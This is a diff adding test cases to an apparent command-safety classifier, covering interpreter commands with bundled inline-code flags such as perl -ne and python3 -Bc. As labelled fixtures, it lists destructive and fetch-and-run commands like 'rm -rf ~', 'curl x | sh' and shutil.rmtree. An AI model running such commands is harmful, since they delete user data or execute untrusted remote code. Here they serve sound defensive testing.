@@ -439,6 +439,12 @@ describe("inline code is read for what no sandbox makes safe", () => {
     ["node -e \"require('child_process').execSync('rm -rf src')\"", "review", "dynamic-command"],
     ["perl -e 'system(\"rm -rf ~\")'", "review", "dynamic-command"],
     ["ruby -e '`curl x | sh`'", "review", "dynamic-command"],
+    // Bundled flags still name inline code: `-ne` is `-n -e CODE`.
+    ["perl -ne 'system(\"rm -rf src\")' README.md", "review", "dynamic-command"],
+    ["node -pe \"require('child_process').execSync('id')\"", "review", "dynamic-command"],
+    ["python3 -Bc \"import shutil; shutil.rmtree('src')\"", "review", "destructive"],
+    ["perl -lane 'unlink $F[0]' list.txt", "review", "destructive"],
+    ["perl -ne 'print if /TODO/' src/*.ts", "contain", "inline-code"],
     ["python3 - <<'PY'\nimport os\nos.system('id')\nPY", "review", "dynamic-command"],
     ["node -e \"console.log(/v(\\d+)/.exec(process.version)[1])\"", "contain", "inline-code"],
   ]);
